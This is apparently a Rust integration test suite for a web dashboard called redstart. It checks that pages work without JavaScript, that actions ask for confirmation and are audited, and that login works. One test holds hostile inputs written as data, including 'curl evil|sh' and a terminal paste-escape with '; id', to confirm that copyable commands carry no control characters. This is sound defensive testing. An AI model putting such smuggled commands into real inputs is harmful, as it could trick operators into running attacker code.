//! The dashboard without a browser: every screen reads without JavaScript, every action asks first.

use anyhow::{Context as _, Result, ensure};
use redstart::{
    Store,
    commerce::Stock,
    locking::{FairMutex, Mutex, RwLock},
    messaging::Queue,
    sessions::{Login, Sessions},
};
use redstart_serve::{Demo, hash_token};
use redstart_testkit::{Backend, eventually, matrix};
use serde_json::json;

use crate::{
    Served,
    client::{Answer, Client, PATIENCE},
};

const SCREENS: &[&str] = &[
    "/",
    "/queues",
    "/locks",
    "/limiters",
    "/caches",
    "/breakers",
    "/stock",
    "/boards",
    "/sessions",
    "/streams",
    "/counting",
    "/filters",
    "/places",
    "/audit",
    "/api",
    "/login",
];

async fn html(client: &mut Client, path: &str) -> Result<String> {
    let answer = client
        .send("GET", path, &[("accept", "text/html")], b"")
        .await?;
    ensure!(
        answer.status == 200,
        "{path}: {} {}",
        answer.status,
        answer.text()
    );
    let text = answer.text();
    ensure!(
        text.contains("<h1>") && text.contains("lang=\"en\""),
        "{path}: {text}"
    );
    // The policy forbids what is inline, so none of it may be there.
    for inline in [" style=\"", " onclick=", "<script>", "javascript:"] {
        ensure!(!text.contains(inline), "{path} has {inline}");
    }
    Ok(text)
}

/// Asks for an action, reads the page that says what will happen, and sends its form.
async fn act(client: &mut Client, path: &str, more: &str) -> Result<(String, Answer)> {
    let page = html(client, path).await?;
    let target = path.split('?').next().context("no path")?;
    let namespace = path
        .split("namespace=")
        .nth(1)
        .and_then(|rest| rest.split('&').next())
        .context("no namespace")?;
    let mut form = Vec::new();
    for field in page.split("<input type=\"hidden\" name=\"").skip(1) {
        let (name, rest) = field.split_once("\" value=\"").context("no value")?;
        let value = rest
            .split('"')
            .next()
            .unwrap_or_default()
            .replace("&quot;", "\"")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&");
        let value: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
        form.push(format!("{name}={value}"));
    }
    form.push(more.to_owned());
    let kind = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("accept", "text/html"),
        ("sec-fetch-site", "same-origin"),
    ];
    let answer = client
        .send(
            "POST",
            &format!("{target}?namespace={namespace}"),
            &kind,
            form.join("&").as_bytes(),
        )
        .await?;
    Ok((page, answer))
}

matrix! {
    async fn every_screen_reads_without_javascript(backend: &Backend) -> Result<()> {
        let store = Store::connect(backend.url()).await?;
        let served = Served::on(&store, "shop", "[limiter.api]\nquota = \"60/m\"\nburst = 20").await?;
        let mut client = served.client();
        // An empty store first: nothing to show is not an error.
        if backend.is_embedded() {
            for path in SCREENS {
                html(&mut client, path).await?;
            }
        }
        let demo = Demo::start(&store).await?;
        let queue = Queue::new(&store, "shop", "mail")?;
        ensure!(eventually(PATIENCE, async || matches!(queue.inspect().counts().await, Ok(counts) if counts.done > 0)).await);
        // The look at the keys is some seconds old at most.
        for (path, word) in [("/?namespace=shop", "places"), ("/queues?namespace=shop", "payments"), ("/breakers?namespace=shop", "payments"), ("/streams?namespace=shop", "orders")] {
            ensure!(eventually(PATIENCE, async || matches!(html(&mut client, path).await, Ok(text) if text.contains(word))).await, "{path}");
        }
        for path in SCREENS {
            html(&mut client, &format!("{path}?namespace=shop")).await?;
        }
        if backend.is_cluster() {
            // Each of the three masters has a row with its memory, and the tile has the sum.
            let overview = html(&mut client, "/?namespace=shop").await?;
            let memory: Vec<f64> = overview
                .split(" MiB")
                .filter_map(|before| before.rsplit('>').next()?.trim().parse().ok())
                .collect();
            ensure!(memory.len() == 4, "{memory:?}");
            let sum: f64 = memory[1..].iter().sum();
            ensure!((memory[0] - sum).abs() < 0.3, "{memory:?}");
        }
        for (path, expected) in [
            ("/queues?namespace=shop", "payments"), ("/queues/mail?namespace=shop", "nightly-report"), ("/queues/images?namespace=shop&state=delayed", "lamp-320"),
            ("/queues/images/search?namespace=shop&state=delayed&text=lamp-640", "Scanned"), ("/queues/payments/dead?namespace=shop", "By error"),
            ("/locks?namespace=shop", "warehouse-1"), ("/limiters?namespace=shop&name=api&subject=ann", "Remaining"), ("/stock?namespace=shop&item=lamp", "Total"),
            ("/boards?namespace=shop", "ann"), ("/sessions?namespace=shop&user=ann", "Firefox on Linux"), ("/streams?namespace=shop&name=orders", "Newest events"),
            ("/counting?namespace=shop", "visitors"), ("/filters?namespace=shop", "sent"), ("/places?namespace=shop", "<circle"), ("/breakers?namespace=shop", "payments"),
        ] {
            // The demo is not yet as far, or the look at the keys is older than that.
            let mut text = String::new();
            let is_shown = eventually(PATIENCE, async || {
                text = html(&mut client, path).await.unwrap_or_else(|error| error.to_string());
                text.contains(expected)
            });
            ensure!(is_shown.await, "{path} has no {expected}: {text}");
        }
        let dead = html(&mut client, "/queues/payments?namespace=shop&state=running").await?;
        ensure!(!dead.contains("4111 1111"), "a card's number is shown");
        let missing = client.send("GET", "/queues/mail/jobs/00000000000000000000000000000000?namespace=shop", &[("accept", "text/html")], b"").await?;
        assert_eq!((missing.status, missing.header("x-problem")), (404, Some("not-found")));
        demo.stop().await;
        served.stop().await
    }

    async fn every_action_asks_first_and_is_written_down(backend: &Backend) -> Result<()> {
        let store = Store::connect(backend.url()).await?;
        let namespace = backend.namespace();
        let served = Served::on(&store, namespace, "[limiter.api]\nquota = \"1/h\"").await?;
        let mut client = served.client();
        let queue = Queue::new(&store, namespace, "q")?;
        let counts = async || queue.inspect().counts().await;
        let at = |path: &str| format!("{path}{}namespace={namespace}", if path.contains('?') { "&" } else { "?" });

        let (page, done) = act(&mut client, &at("/act/queue.pause?queue=q"), "").await?;
        ensure!(page.contains("Running jobs finish") && done.status == 303, "{}", done.text());
        ensure!(counts().await?.paused);
        act(&mut client, &at("/act/queue.resume?queue=q"), "").await?;
        ensure!(!counts().await?.paused);

        act(&mut client, &at("/act/queue.add?queue=q"), "kind=mail&payload=%7B%22to%22%3A%22%3Cann%3E%22%7D").await?;
        let later = queue.enqueue_raw("mail", b"1").delay(std::time::Duration::from_secs(3600)).await?.id().context("full")?;
        ensure!(counts().await?.ready == 1);
        act(&mut client, &at(&format!("/act/queue.run-now?queue=q&job={later}")), "").await?;
        ensure!(counts().await?.ready == 2);
        let page = html(&mut client, &at("/queues/q?state=ready")).await?;
        ensure!(page.contains("&lt;ann&gt;") && !page.contains("<ann>"), "payloads are escaped");
        act(&mut client, &at(&format!("/act/queue.delete?queue=q&job={later}")), "").await?;
        ensure!(counts().await?.ready == 1);
        let again = act(&mut client, &at(&format!("/act/queue.delete?queue=q&job={later}")), "").await?.1;
        assert_eq!(again.status, 409, "what is gone cannot be deleted");

        for n in 0..3 {
            queue.enqueue_raw("bad", b"1").await?;
            let leased = client.post(&at("/v1/queues/q:lease"), json!({"kinds": ["bad"], "wait": 30})).await?.json();
            let fence = &leased["jobs"][0]["fence"];
            client.post(&at("/v1/queues/q:fail"), json!({"fence": fence, "error": format!("code {n} for 'x{n}'"), "dead": true})).await?;
        }
        let page = html(&mut client, &at("/queues/q/dead")).await?;
        ensure!(page.contains("code # for"), "{page}");
        let group = "code%20%23%20for%20%27%E2%80%A6%27";
        let (page, _) = act(&mut client, &at(&format!("/act/queue.replay?queue=q&group={group}")), "").await?;
        ensure!(page.contains("3 dead letters are enqueued again"), "{page}");
        let now = counts().await?;
        // The worker left the job of a kind that it does not know to others.
        assert_eq!((now.dead, now.ready, now.parked), (0, 3, 1));

        let mutex = Mutex::builder(&store, namespace, "m").label("stuck").without_renewal().build()?;
        let ticket = mutex.try_lock().await?.context("not granted")?.into_ticket()?;
        let (page, _) = act(&mut client, &at("/act/lock.force-release?name=m"), "").await?;
        ensure!(page.contains("stuck"), "{page}");
        ensure!(!mutex.extend_held(&ticket, std::time::Duration::from_secs(1)).await?);

        let sessions = Sessions::new(&store, namespace, "web")?;
        sessions.login(Login::new("ann"), &json!({})).await?;
        sessions.login(Login::new("ann"), &json!({})).await?;
        let handle = sessions.list("ann").await?[0].handle.clone();
        act(&mut client, &at(&format!("/act/session.revoke?name=web&user=ann&handle={handle}")), "").await?;
        assert_eq!(sessions.list("ann").await?.len(), 1);
        act(&mut client, &at("/act/session.revoke-all?name=web&user=ann"), "").await?;
        ensure!(sessions.list("ann").await?.is_empty());

        client.post(&at("/v1/limiters/api:check"), json!({"subject": "ann"})).await?;
        act(&mut client, &at("/act/limiter.reset?name=api&subject=ann"), "").await?;
        ensure!(client.post(&at("/v1/limiters/api:check"), json!({"subject": "ann"})).await?.json()["allowed"] == true);

        act(&mut client, &at("/act/breaker.force-open?name=b"), "").await?;
        ensure!(eventually(PATIENCE, async || {
            matches!(client.get(&at("/v1/breakers/b")).await, Ok(state) if state.json()["state"] == "open")
        }).await);
        act(&mut client, &at("/act/breaker.reset?name=b"), "").await?;
        act(&mut client, &at("/act/cache.invalidate?name=c&tag=t"), "").await?;

        let audit = client.get("/v1/audit").await?.json();
        let entries: Vec<(&str, u64)> = audit["changes"].as_array().context("no log")?.iter()
            .filter(|change| change["on"].as_str().is_some_and(|on| on.starts_with(namespace)))
            .filter_map(|change| Some((change["what"].as_str()?, change["count"].as_u64()?))).collect();
        for expected in [("queue.pause", 1), ("queue.replay", 3), ("lock.force-release", 1), ("session.revoke-all", 1), ("breaker.reset", 1)] {
            ensure!(entries.contains(&expected), "{expected:?} is not in {entries:?}");
        }
        served.stop().await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_browser_logs_in_with_a_token_and_readers_see_no_actions() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let config = format!(
        "[[token]]\nname = \"eve\"\nsha256 = {:?}\nrole = \"read\"",
        hash_token("eve-secret")
    );
    let served = Served::on(&store, "n", &config).await?;
    Queue::new(&store, "n", "q")?.enqueue_raw("k", b"1").await?;
    let mut client = served.client();
    let page = client
        .send("GET", "/", &[("accept", "text/html")], b"")
        .await?;
    ensure!(
        page.status == 401 && page.text().contains("type=\"password\""),
        "{}",
        page.text()
    );
    let form = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("accept", "text/html"),
    ];
    let wrong = client.send("POST", "/login", &form, b"token=wrong").await?;
    ensure!(wrong.text().contains("not known") && wrong.header("set-cookie").is_none());
    let right = client
        .send("POST", "/login", &form, b"token=eve-secret")
        .await?;
    let cookie = right.header("set-cookie").context("no cookie")?.to_owned();
    ensure!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let mut eve = served
        .client()
        .header("cookie", cookie.split(';').next().context("no cookie")?);
    let page = html(&mut eve, "/queues/q?namespace=n").await?;
    ensure!(
        page.contains("<strong>eve</strong>") && !page.contains("/act/"),
        "a reader sees actions"
    );
    assert_eq!(
        eve.send("GET", "/act/queue.pause?queue=q&namespace=n", &[], b"")
            .await?
            .status,
        403
    );
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hot_subjects_and_refusals_are_on_the_page_and_in_the_api() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let config = "[limiter.api]\nquota = \"3/h\"\n[[domain]]\nname = \"edge\"\n[[domain.descriptor]]\nkey = \"user\"\nlimiter = \"api\"";
    let served = Served::on(&store, "n", config).await?;
    let mut client = served.client();
    ensure!(
        html(&mut client, "/limiters?namespace=n")
            .await?
            .contains("has checked nothing")
    );
    // Each way of asking counts: one by one, many at once, with a limit of the call, and by a gateway.
    for _ in 0..10 {
        let check = json!({"subject": "<ann>"});
        client.post("/v1/limiters/api:check", check).await?;
    }
    let many =
        json!({"checks": [{"subject": "bob"}, {"subject": "bob"}, {"subject": "eve", "cost": 2}]});
    client.post("/v1/limiters/api:check-many", many).await?;
    let own = json!({"subject": "x", "limit": {"quota": "1/h"}});
    client.post("/v1/limiters/other:check", own).await?;
    let gateway =
        json!({"domain": "edge", "descriptors": [{"entries": [{"key": "user", "value": "zoe"}]}]});
    for _ in 0..5 {
        client.post("/json", gateway.clone()).await?;
    }
    // Looking takes nothing, and counts for nothing.
    client
        .post("/v1/limiters/api:peek", json!({"subject": "bob"}))
        .await?;

    let hot = client.get("/v1/limiters/api/hot?count=3").await?.json();
    let list = |name: &str| -> Vec<(String, u64, u64)> {
        let list = hot[name].as_array().unwrap().iter();
        list.map(|one| {
            (
                one["subject"].as_str().unwrap().to_owned(),
                one["at_least"].as_u64().unwrap(),
                one["at_most"].as_u64().unwrap(),
            )
        })
        .collect()
    };
    let counted = |subject: &str, times| (subject.to_owned(), times, times);
    assert_eq!(
        list("checked"),
        [
            counted("<ann>", 10),
            counted("edge|user=zoe", 5),
            counted("bob", 2)
        ]
    );
    assert_eq!(
        list("refused"),
        [counted("<ann>", 7), counted("edge|user=zoe", 2)]
    );
    let total = |name: &str| -> u64 {
        let points = hot["history"].as_array().unwrap().iter();
        points.filter_map(|point| point[name].as_u64()).sum()
    };
    assert_eq!((total("allowed"), total("refused")), (9, 9));

    let page = html(&mut client, "/limiters?namespace=n").await?;
    ensure!(
        page.contains("Refused the most")
            && page.contains("&lt;ann&gt;")
            && !page.contains("<ann>")
            && page.contains("Checks per second of api")
            && page.contains("limiter.reset"),
        "{page}"
    );
    // Another namespace's subjects are not there.
    ensure!(
        !html(&mut client, "/limiters?namespace=m")
            .await?
            .contains("ann")
    );
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_open_page_never_goes_back_to_what_was_before_a_change() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    Queue::new(&store, "n", "q")?.enqueue_raw("k", b"1").await?;
    let tick = [("accept", "text/html"), ("hx-request", "true")];
    for (action, shown) in [("pause", true), ("resume", false), ("pause", true)] {
        let path = "/queues/q?namespace=n";
        let before = client.send("GET", path, &tick, b"").await?.text();
        ensure!(before.contains("act/queue.pause") == shown, "{before}");
        let asked = format!("/act/queue.{action}?queue=q&namespace=n");
        assert_eq!(act(&mut client, &asked, "").await?.1.status, 303);
        // Within the second for which a page is good.
        let after = client.send("GET", path, &tick, b"").await?.text();
        ensure!(after.contains("act/queue.resume") == shown, "{after}");
    }
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commands_to_copy_have_the_address_by_which_the_reader_came() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let port = served.address.port();
    // A live part is rendered once for all readers of the same address, and for no others.
    for tick in [false, true] {
        for host in [format!("localhost:{port}"), format!("127.0.0.1:{port}")] {
            for path in [
                "/api",
                "/locks?namespace=n",
                "/act/queue.pause?queue=q&namespace=n",
            ] {
                let mut headers = vec![("accept", "text/html"), ("host", host.as_str())];
                headers.extend(tick.then_some(("hx-request", "true")));
                let page = client.send("GET", path, &headers, b"").await?.text();
                let addresses: std::collections::BTreeSet<&str> = page
                    .split("'http://")
                    .skip(1)
                    .filter_map(|part| part.split('/').next())
                    .collect();
                assert_eq!(addresses.into_iter().collect::<Vec<_>>(), [&host], "{path}");
            }
        }
    }
    served.stop().await?;

    // Behind a proxy, what the proxy says counts, and from nobody else.
    let trusted =
        "[trusted_header]\nname = \"x-user\"\nrole = \"admin\"\nproxies = [\"127.0.0.1\"]";
    let secret = hash_token("secret-of-a-reader");
    let config =
        format!("{trusted}\n[[token]]\nname = \"r\"\nsha256 = {secret:?}\nrole = \"read\"");
    let served = Served::on(&store, "n", &config).await?;
    let mut client = served.client();
    let forwarded = [
        ("accept", "text/html"),
        ("x-forwarded-proto", "https"),
        ("x-forwarded-host", "ops.example"),
    ];
    for (who, address) in [
        (("x-user", "ann"), "https://ops.example/".to_owned()),
        (
            ("authorization", "Bearer secret-of-a-reader"),
            format!("http://{}/", served.address),
        ),
    ] {
        let headers = [&forwarded[..], &[who]].concat();
        let page = client.send("GET", "/api", &headers, b"").await?;
        ensure!(
            page.status == 200 && page.text().contains(&address),
            "{who:?}"
        );
    }
    served.stop().await
}

/// The request of the page's "As curl": method, path and body.
fn as_curl(page: &str, address: std::net::SocketAddr) -> Result<(String, String, String)> {
    let command = page.split("curl -X ").nth(1).context("no command")?;
    let command = command.split("</").next().context("no end")?;
    let command = command
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&");
    let (method, rest) = command
        .split_once(&format!(" 'http://{address}"))
        .context("no method")?;
    let (path, rest) = rest.split_once('\'').context("no path")?;
    let body = rest
        .split_once(" -d '")
        .map_or("", |(_, body)| body.trim_end().trim_end_matches('\''));
    Ok((method.to_owned(), path.to_owned(), body.to_owned()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_request_that_a_page_shows_does_what_its_button_does() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let queue = Queue::new(&store, "n", "q")?;
    let dead = async || anyhow::Ok(queue.inspect().counts().await?.dead);
    for n in 0..4 {
        queue.enqueue_raw("bad", b"1").await?;
        let leased = client
            .post("/v1/queues/q:lease", json!({"kinds": ["bad"], "wait": 30}))
            .await?
            .json();
        let fence = &leased["jobs"][0]["fence"];
        client
            .post(
                "/v1/queues/q:fail",
                json!({"fence": fence, "error": format!("it's {n}"), "dead": true}),
            )
            .await?;
    }
    assert_eq!(dead().await?, 4);
    let json = [("content-type", "application/json")];
    for (action, left) in [("queue.purge", 3), ("queue.replay", 2)] {
        let letters = client.get("/v1/queues/q/dead").await?.json();
        let letter = letters["letters"][0]["letter"]
            .as_str()
            .context("no letter")?;
        let page = html(
            &mut client,
            &format!("/act/{action}?queue=q&namespace=n&letter={letter}"),
        )
        .await?;
        let (method, path, body) = as_curl(&page, served.address)?;
        let done = client.send(&method, &path, &json, body.as_bytes()).await?;
        assert_eq!(
            (done.status, &done.json()["count"]),
            (200, &json!(1)),
            "{path} {body}"
        );
        assert_eq!(dead().await?, left);
    }
    // A request that names no letters is refused, whether or not it has a body.
    for verb in ["purge", "replay"] {
        for body in [
            "",
            "{}",
            "{\"dry_run\":true}",
            "{\"all\":true,\"error\":\"x\"}",
            // Every error contains the empty text.
            "{\"error\":\"\"}",
            "{\"group\":\"\"}",
            "{\"letters\":[\"1-2\"],\"error\":\"\"}",
        ] {
            let refused = client
                .send(
                    "POST",
                    &format!("/v1/queues/q/dead:{verb}"),
                    &json,
                    body.as_bytes(),
                )
                .await?;
            assert_eq!(refused.status, 400, "{verb} {body}");
        }
    }
    assert_eq!(dead().await?, 2);
    let all = client
        .post("/v1/queues/q/dead:purge", json!({"all": true}))
        .await?;
    assert_eq!((all.status, &all.json()["count"]), (200, &json!(2)));
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_check_is_tried_by_hand_after_a_confirmation_and_written_down() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "[limiter.api]\nquota = \"1/h\"").await?;
    let mut client = served.client();
    let at = "/limiters?namespace=n&name=api&subject=a%26b";
    let peek = async |client: &mut Client| {
        let subject = json!({"subject": "a&b"});
        let peek = client.post("/v1/limiters/api:peek", subject).await?;
        anyhow::Ok(peek.json()["remaining"].clone())
    };
    let page = html(&mut client, at).await?;
    let ask = "/act/limiter.check?namespace=n&amp;name=api&amp;subject=a%26b";
    ensure!(page.contains(ask), "{page}");
    let headers = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("accept", "text/html"),
        ("sec-fetch-site", "same-origin"),
    ];
    for (said, left) in [("allowed", 0), ("refused", 0)] {
        let page = html(
            &mut client,
            "/act/limiter.check?namespace=n&name=api&subject=a%26b",
        )
        .await?;
        ensure!(page.contains("takes one of the limit"), "{page}");
        let form = b"name=api&subject=a%26b&expected=1";
        let done = client
            .send("POST", "/act/limiter.check?namespace=n", &headers, form)
            .await?;
        assert_eq!(done.status, 303, "{}", done.text());
        let back = done.header("location").context("no location")?.to_owned();
        let page = html(&mut client, &back).await?;
        ensure!(
            page.contains(&format!("The check was {said}")),
            "{back}: {page}"
        );
        assert_eq!(peek(&mut client).await?, left);
    }
    let log = client.get("/v1/audit").await?.json();
    let counts: Vec<_> = log["changes"]
        .as_array()
        .context("no log")?
        .iter()
        .map(|change| {
            (
                change["what"].clone(),
                change["on"].clone(),
                change["count"].clone(),
            )
        })
        .collect();
    let change = |count: u64| (json!("limiter.check"), json!("n api a&b"), json!(count));
    assert_eq!(counts, [change(0), change(1)], "the newest first");
    // A limiter that nobody configured cannot be tried by its name.
    let form = b"name=other&subject=a&expected=1";
    let refused = client
        .send("POST", "/act/limiter.check?namespace=n", &headers, form)
        .await?;
    assert_eq!(refused.status, 404, "{}", refused.text());
    served.stop().await
}

/// A page that somebody left open names a death of the job that is over.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_letter_of_an_earlier_death_is_neither_retried_nor_deleted() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let queue = Queue::new(&store, "n", "q")?;
    queue.enqueue_raw("bad", b"1").await?;
    let mut die = async |error: &str| -> Result<String> {
        let ask = json!({"kinds": ["bad"], "wait": 30});
        let leased = client.post("/v1/queues/q:lease", ask).await?.json();
        let failed = json!({"fence": leased["jobs"][0]["fence"], "error": error, "dead": true});
        client.post("/v1/queues/q:fail", failed).await?;
        let letters = client.get("/v1/queues/q/dead").await?.json();
        let letter = letters["letters"][0]["letter"].as_str();
        Ok(letter.context("no letter")?.to_owned())
    };
    let first = die("the host is unknown").await?;
    queue.inspect().dead_letters().replay(|_| true).await?;
    let second = die("the card was refused").await?;
    ensure!(first != second, "{first}");
    let headers = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("accept", "text/html"),
        ("sec-fetch-site", "same-origin"),
    ];
    let dead = async || anyhow::Ok(queue.inspect().counts().await?.dead);
    for action in ["queue.purge", "queue.replay"] {
        let path = format!("/act/{action}?queue=q&namespace=n&letter={first}");
        let page = html(&mut client, &path).await?;
        ensure!(page.contains("0 dead letters"), "{page}");
        let form = format!("queue=q&letter={first}&expected=1");
        let path = format!("/act/{action}?namespace=n");
        let answer = client
            .send("POST", &path, &headers, form.as_bytes())
            .await?;
        assert_eq!(
            (answer.status, dead().await?),
            (409, 1),
            "{}",
            answer.text()
        );
    }
    let form = format!("queue=q&letter={second}&expected=1");
    let path = "/act/queue.purge?namespace=n";
    let answer = client.send("POST", path, &headers, form.as_bytes()).await?;
    assert_eq!(
        (answer.status, dead().await?),
        (303, 0),
        "{}",
        answer.text()
    );
    served.stop().await
}

/// Who enqueues a job chooses its payload. An operator who copies a command must not run something else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commands_to_copy_have_no_control_characters() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "[limiter.api]\nquota = \"1/h\"").await?;
    let mut client = served.client();
    let queue = Queue::new(&store, "n", "q")?;
    let payloads = ["\"\u{7f}\u{9b}31m\"", "{\n\t\"a\":1\r\n}", "\"\u{202e}\""];
    let texts = [
        "x\u{3}\ncurl evil|sh\n",
        "\u{1b}[201~; id\n",
        "a\u{7f}\u{9b}",
    ];
    for (payload, evil) in payloads.into_iter().zip(texts) {
        let job = queue.enqueue_raw("k", payload.as_bytes()).await?;
        let job = job.id().context("no id")?;
        let text: String = evil.bytes().map(|b| format!("%{b:02X}")).collect();
        for action in [
            format!("queue.add?queue=q&job={job}"),
            format!("queue.purge?queue=q&group={text}"),
            format!("queue.replay?queue=q&letter={text}"),
            format!("cache.invalidate?name=c&key={text}"),
            format!("cache.invalidate?name=c&tag={text}"),
            format!("session.revoke-all?name=web&user={text}"),
            format!("limiter.reset?name=api&subject={text}"),
        ] {
            let page = html(&mut client, &format!("/act/{action}&namespace=n")).await?;
            let commands: Vec<&str> = page
                .split("<pre>")
                .skip(1)
                .filter_map(|rest| rest.split("</pre>").next())
                .collect();
            ensure!(!commands.is_empty(), "{page}");
            for command in commands {
                ensure!(!command.contains(char::is_control), "{action}: {command:?}");
            }
        }
    }
    served.stop().await
}

/// What is behind a link of a page.
fn links(page: &str) -> Vec<String> {
    let links = page.split("href=\"").skip(1);
    let links = links.filter_map(|rest| rest.split('"').next());
    links.map(|link| link.replace("&amp;", "&")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_names_its_parent_in_the_queue_of_the_parent() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let flow = json!({"job": {"kind": "build_page", "payload": {"page": 7}, "children": [
        {"kind": "resize", "payload": 320, "queue": "images"},
        {"kind": "resize", "payload": 640},
    ]}});
    ensure!(client.post("/v1/queues/pages/flows", flow).await?.status == 201);
    for queue in ["images", "pages"] {
        let path = format!("/v1/queues/{queue}/jobs?state=ready");
        let jobs = client.get(&path).await?.json();
        let id = jobs["jobs"][0]["id"].as_str().context("no job")?.to_owned();
        let parent = jobs["jobs"][0]["parent"].as_str().context("no parent")?;
        let page = html(
            &mut client,
            &format!("/queues/{queue}/jobs/{id}?namespace=n"),
        )
        .await?;
        let links = links(&page);
        let link = links.iter().find(|link| link.contains(parent));
        let link = link.context("no link")?;
        ensure!(link.contains("/queues/pages/jobs/"), "{link}");
        html(&mut client, link).await?;
    }
    // The parent's own page has the tree below it.
    let counts = client.get("/v1/queues/pages").await?.json();
    assert_eq!(
        (&counts["waiting"], &counts["ready"]),
        (&json!(1), &json!(1))
    );
    let lease = json!({"kinds": ["resize"], "wait": 30});
    let leased = client.post("/v1/queues/images:lease", lease).await?.json();
    let done = json!({"fence": leased["jobs"][0]["fence"], "result": {"file": "lamp-320", "token": "hunter2"}});
    ensure!(client.post("/v1/queues/images:ack", done).await?.status == 200);
    let waiting = client.get("/v1/queues/pages/jobs?state=waiting").await?;
    let waiting = waiting.json();
    let root = waiting["jobs"][0]["id"].as_str().context("no parent")?;
    let mut page = String::new();
    // What a child in another queue returned is told to its parent by a worker there.
    let told = eventually(PATIENCE, async || {
        let path = format!("/queues/pages/jobs/{root}?namespace=n");
        page = html(&mut client, &path).await.unwrap_or_default();
        page.contains("lamp-320")
    });
    ensure!(told.await, "{page}");
    ensure!(
        page.contains("2 children: 1 are not over, 0 have failed"),
        "{page}"
    );
    ensure!(
        !page.contains("hunter2"),
        "a field that is hidden by name: {page}"
    );
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn all_kinds_of_locks_are_shown_and_one_is_looked_up_by_its_name() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let mutex = Mutex::builder(&store, "n", "m").label("ann").build()?;
    let fair = FairMutex::builder(&store, "n", "f").label("bob").build()?;
    let shared = RwLock::builder(&store, "n", "s").label("eve").build()?;
    let written = RwLock::builder(&store, "n", "w").label("zoe").build()?;
    let _held = (mutex.try_lock().await?, fair.try_lock().await?);
    let _shared = (shared.try_read().await?, shared.try_read().await?);
    let _written = written.try_write().await?;
    let mut page = String::new();
    let shown = eventually(PATIENCE, async || {
        page = html(&mut client, "/locks?namespace=n")
            .await
            .unwrap_or_default();
        ["ann", "bob", "zoe"].iter().all(|name| page.contains(name))
    });
    ensure!(shown.await, "{page}");
    let readers = "<td class=\"num\">2</td><td class=\"num\">0</td>";
    ensure!(
        page.replace("</td> <td", "</td><td").contains(readers),
        "{page}"
    );
    let page = html(&mut client, "/locks?namespace=n&name=f").await?;
    ensure!(page.contains("bob") && !page.contains("ann"), "{page}");
    served.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sale_that_lost_units_and_the_age_of_jobs_are_shown() -> Result<()> {
    let store = Store::connect("memory://").await?;
    let served = Served::on(&store, "n", "").await?;
    let mut client = served.client();
    let hour = std::time::Duration::from_secs(3600);
    let stock = Stock::builder(&store, "n", "sale").build()?;
    let _ = stock.prewarm("lamp", 5, hour).await?;
    let _ = stock.restock("lamp", 2, "truck-1").await?;
    let path = "/stock?namespace=n&name=sale&item=lamp";
    let page = html(&mut client, path).await?;
    ensure!(
        page.contains("conserved") && page.contains("7 units were put on sale"),
        "{page}"
    );
    for key in store.scan("n:stock.sale:*").await? {
        let mut lose = redstart::redis::cmd("HINCRBY");
        lose.arg(&key).arg("free").arg(-1);
        let mut is_sale = redstart::redis::cmd("HEXISTS");
        is_sale.arg(&key).arg("free");
        if store.query::<bool>(&is_sale).await.unwrap_or(false) {
            store.query::<i64>(&lose).await?;
        }
    }
    let page = html(&mut client, path).await?;
    ensure!(
        page.contains("7 units were put on sale, and 6 are"),
        "{page}"
    );

    let queue = Queue::new(&store, "n", "q")?;
    queue.enqueue_raw("k", b"1").await?;
    store.advance(hour * 3)?;
    let page = html(&mut client, "/queues/q?namespace=n").await?;
    ensure!(
        page.contains("Oldest ready") && page.contains("3 h"),
        "{page}"
    );
    let listed = eventually(
        PATIENCE,
        async || matches!(html(&mut client, "/queues?namespace=n").await, Ok(page) if page.contains("<td>3 h</td>")),
    );
    ensure!(listed.await);

    // It was open, and is closed now.
    act(
        &mut client,
        "/act/breaker.force-open?name=b&namespace=n",
        "",
    )
    .await?;
    let path = "/breakers?namespace=n";
    let sampled = eventually(
        PATIENCE,
        async || matches!(html(&mut client, path).await, Ok(page) if page.contains("no change in") || page.contains(">open ")),
    );
    ensure!(sampled.await);
    act(&mut client, "/act/breaker.reset?name=b&namespace=n", "").await?;
    let mut page = String::new();
    let changed = eventually(PATIENCE, async || {
        page = html(&mut client, path).await.unwrap_or_default();
        page.contains(">closed just now") || page.contains(">closed 3 s ago")
    });
    ensure!(changed.await, "{page}");
    served.stop().await
}
